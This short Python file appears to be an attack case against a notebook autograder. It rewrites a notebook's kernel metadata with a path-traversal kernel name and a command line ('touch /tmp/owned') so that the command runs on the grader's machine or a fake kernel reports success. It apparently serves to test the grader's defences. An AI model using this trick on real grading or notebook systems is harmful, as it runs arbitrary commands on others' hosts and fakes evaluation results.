# Goes for the kernel: the notebook names a kernel of its own, with a command line in its metadata.
# Gains: code of the student's choice on the grader's side, or a kernel that answers "ok" to everything.
# hand-in: yes
# ruff: noqa
def change(notebook):
    notebook["metadata"]["kernelspec"] = {"name": "../../evil", "display_name": "evil", "language": "bash", "argv": ["touch", "/tmp/owned"]}
    notebook["metadata"]["language_info"] = {"name": "bash", "version": "0", "mimetype": "text/x-sh"}
    notebook["nbformat"], notebook["nbformat_minor"] = 4, 99
    return notebook
